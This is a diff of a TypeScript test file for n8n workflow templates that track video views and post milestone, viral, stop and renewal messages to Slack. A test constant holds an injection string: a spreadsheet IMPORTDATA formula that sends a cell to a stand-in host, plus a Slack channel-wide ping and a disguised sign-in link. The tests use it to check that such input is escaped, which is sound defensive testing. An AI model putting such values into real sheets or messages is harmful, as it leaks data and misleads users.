@@ -41,7 +41,11 @@ const ONE_OF_EACH = [
 const HOSTILE = '=IMPORTDATA("https://x.test/?"&B2)\n<!channel> <https://x.test|Sign in> & more ';
 const HOSTILE_IN_SLACK =
 	'=IMPORTDATA("https://x.test/?"&amp;B2) &lt;!channel&gt; &lt;https://x.test|Sign in&gt; &amp; more';
-const DAY_MS = 24 * 3_600_000;
+const EXAMPLE = 'https://www.tiktok.com/@example/video/7601081937123456789';
+const HOUR_MS = 3_600_000;
+const DAY_MS = 24 * HOUR_MS;
+/** Time for n8n to import and publish a workflow, in milliseconds. */
+const UNTIL_NEXT_MS = 20_000;
 /** Longest wait for a row or a message, in milliseconds. */
 const MOST_MS = 90_000;
 
@@ -160,6 +164,70 @@ test('"Milestones to Slack" posts one message for each milestone', async () => {
 			`&lt;@U1&gt; &amp; co · tiktok · now 123,456 views\n${TIKTOK}`,
 	});
 	expect(sink.messages).toEqual([message('10,000'), message('100,000')]);
+});
+
+/** Views that rise for two days, and then no more: by hour 72 the last 24 hours brought nothing. */
+const SLOWING = (hour: number) => (hour < 48 ? 1000 * hour : 48_300);
+
+test('"Viral alert to Slack" posts one message when a video takes off', async () => {
+	const { sandbox, video } = await openWithNextSnapshot(40, (hour) =>
+		hour < 40 ? 1000 + 400 * hour : 90_000,
+	);
+	video.override({ current_metadata: { title: HOSTILE, creator: '<@U1> & co' } });
+	const workflow = await importTemplate('viral-alert-to-slack', sandbox);
+	await whilePublished(workflow, async () => {
+		await waitFor('a message', MOST_MS, () => sink.messages.length > 0);
+		await sleep(6_000);
+	});
+	// From hour 39 (16,600 views) to hour 40.
+	expect(sink.messages).toEqual([
+		{
+			channel: '#campaign',
+			text:
+				`:rocket: *${HOSTILE_IN_SLACK}* is taking off: *+73,400 views per hour*, usually +400\n` +
+				`&lt;@U1&gt; &amp; co · tiktok · now 90,000 views\n${TIKTOK}`,
+		},
+	]);
+});
+
+test('"Stop when growth slows" stops a video once, and posts what that saves', async () => {
+	const { sandbox, video } = await openWithNextSnapshot(72, SLOWING);
+	const workflow = await importTemplate('stop-when-growth-slows', sandbox);
+	await whilePublished(workflow, async () => {
+		await waitFor('a message', MOST_MS, () => sink.messages.length > 0);
+	});
+	await whilePublished(workflow, async () => await sleep(6_000));
+	expect(video.status).toBe('completed');
+	const stops = sandbox.requests.filter(({ method }) => method === 'POST');
+	expect(stops.map(({ path }) => path)).toEqual([expect.stringContaining(`${video.id}/stop`)]);
+	const { title } = (await fetchFromApi(sandbox, `/videos/${video.id}`)).current_metadata;
+	// 73 of 720 snapshots are taken: 647 are left, at $0.015 each.
+	expect(sink.messages.map(({ text }) => text)).toEqual([
+		`:octagonal_sign: Stopped *${title}*\n` +
+			'It grew by 0 views in the last window, 0 % of its best (24,300).\n' +
+			`Saves about $9.71: 647 snapshots.\n${TIKTOK}`,
+	]);
+});
+
+test('"Renew what still grows" tracks a video again that ended by itself, once', async () => {
+	const { sandbox, video } = await openWithNextSnapshot(23, (hour) => 100 * hour, 1);
+	const stopped = sandbox.seedVideo({ video_link: YOUTUBE, started: ago(23 * HOUR_MS) });
+	const workflow = await importTemplate('renew-what-still-grows', sandbox);
+	await whilePublished(workflow, async () => {
+		stopped.end('completed', Date.now());
+		await waitFor('a message', MOST_MS, () => sink.messages.length > 0);
+	});
+	await whilePublished(workflow, async () => await sleep(6_000));
+	const renewed = [...sandbox.videos.values()].slice(2);
+	expect(renewed.map(({ video_link }) => video_link)).toEqual([video.video_link]);
+	expect(sandbox.ledger.filter(({ kind }) => kind === 'track')).toMatchObject([
+		{ video_id: renewed[0]!.id, duration_days: 7, estimated_cost: 2.52 },
+	]);
+	expect(sink.messages.map(({ text }) => text)).toEqual([
+		expect.stringMatching(
+			/^:seedling: Renewed \*.+\*\nIt gained 2,300 views in its last 24 hours\.\n7 more days cost \$2\.52\.\n/,
+		),
+	]);
 });
 
 test('"Weekly digest to Slack" posts the ten active videos that gained the most', async () => {
@@ -335,8 +403,49 @@ describe('by its main button', () => {
 		expect(sink.messages.map(({ text }) => text)).toEqual([
 			':tada: *Example video* passed *10,000 views*\n' +
 				'example · tiktok · now 10,000 views\n' +
-				'https://www.tiktok.com/@example/video/7234567890123456789',
+				EXAMPLE,
 		]);
+	});
+
+	test('"Viral alert to Slack" posts one example', async () => {
+		await runToItsEnd(
+			await importTemplate('viral-alert-to-slack', await openSandbox()),
+			'On spike',
+		);
+		expect(sink.messages.map(({ text }) => text)).toEqual([
+			':rocket: *Example video* is taking off: *+1,200 views per hour*, usually +400\n' +
+				`example · tiktok · now 1,250,000 views\n${EXAMPLE}`,
+		]);
+	});
+
+	test.each([
+		['stop-when-growth-slows', 'On slowed growth'],
+		['renew-what-still-grows', 'On ended tracking'],
+	])('"%s" posts nothing on an empty account', async (name, trigger) => {
+		await runToItsEnd(await importTemplate(name, await openSandbox()), trigger);
+		expect(sink.messages).toEqual([]);
+	});
+
+	test('"Stop when growth slows" stops nothing', async () => {
+		const { sandbox, video } = await openWithNextSnapshot(80, SLOWING);
+		await runToItsEnd(await importTemplate('stop-when-growth-slows', sandbox), 'On slowed growth');
+		expect(sink.messages[0]!.text).toMatch(/^:mag: Test, nothing was stopped\. Would stop \*/);
+		expect([video.status, sandbox.requests.filter(({ method }) => method === 'POST')]).toEqual([
+			'monitoring',
+			[],
+		]);
+	});
+
+	test('"Renew what still grows" spends nothing', async () => {
+		const sandbox = await openSandbox({ firstSnapshotDelayMs: 0 });
+		const { id } = sandbox.seedVideo({
+			video_link: TIKTOK,
+			started: ago(24 * HOUR_MS),
+			duration_days: 1,
+		});
+		await runToItsEnd(await importTemplate('renew-what-still-grows', sandbox), 'On ended tracking');
+		expect(sink.messages[0]!.text).toMatch(/^:mag: Test, nothing was tracked\. Would renew \*/);
+		expect([...sandbox.videos.keys()]).toEqual([id]);
 	});
 
 	test('"Low-balance alert" posts the balance', async () => {
@@ -441,6 +550,35 @@ async function fetchFromApi({ baseUrl, liveKey }: Sandbox, path: string) {
 		platform: string;
 		current_metadata: { title: string; creator: string };
 	};
+}
+
+/**
+ * Opens a sandbox with a video that takes its snapshot of `hours` in a moment, by which time a workflow is published.
+ *
+ * @param viewsAt the views of the snapshot of each hour.
+ */
+async function openWithNextSnapshot(
+	hours: number,
+	viewsAt: (hour: number) => number,
+	duration_days = 30,
+) {
+	const sandbox = await openSandbox({ firstSnapshotDelayMs: 0 });
+	const started = ago(hours * HOUR_MS - UNTIL_NEXT_MS);
+	const video = sandbox.seedVideo({ video_link: TIKTOK, started, duration_days });
+	sandbox.faults.add({
+		kind: 'map',
+		match: { method: 'GET', path: `/videos/${video.id}` },
+		times: Infinity,
+		map: (json) => {
+			const reply = json as { snapshots: object[] };
+			const snapshots = reply.snapshots.map((snapshot, hour) => ({
+				...snapshot,
+				views: String(viewsAt(hour)),
+			}));
+			return { ...reply, snapshots };
+		},
+	});
+	return { sandbox, video };
 }
 
 const ago = (ms: number): number => Date.now() - ms;
